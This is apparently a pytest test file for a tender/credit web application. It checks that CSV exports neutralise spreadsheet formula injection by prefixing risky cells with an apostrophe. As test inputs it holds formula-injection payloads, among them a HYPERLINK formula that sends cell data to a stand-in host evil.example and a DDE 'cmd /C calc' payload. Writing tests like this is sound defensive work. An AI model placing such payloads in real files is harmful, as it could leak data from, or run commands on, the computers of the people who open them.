"""CSV exports never hand a spreadsheet a formula: a cell starting with = + - @, tab or CR is
prefixed with an apostrophe, in every export."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from credit.service import publish
from tenderhall.csvsafe import safe_cell
from tenderhall.db import Database, utcnow
from tenderhall.settings import Settings
from tests.credit.conftest import SUPERVISOR, upheld

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_prefixed_with_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_plain_text_and_numbers_pass_unchanged() -> None:
    assert safe_cell("闽江建设有限公司") == "闽江建设有限公司"
    assert safe_cell(-5) == -5
    assert safe_cell("") == ""


def test_the_credit_export_neutralises_formulas_in_every_cell(
    db: Database, client: Any, settings: Settings
) -> None:
    with db.unit_of_work() as s:
        v = upheld(
            s,
            settings,
            name='=HYPERLINK("http://evil.example","闽江公式公司")',
            facts='@SUM(1+1)*cmd|" /C calc"!A0',
            decided_at=utcnow(),
        )
        publish(s, SUPERVISOR, v.id, now=utcnow())  # type: ignore[arg-type]
    body = client.get("/credit/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for row in rows[1:] for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
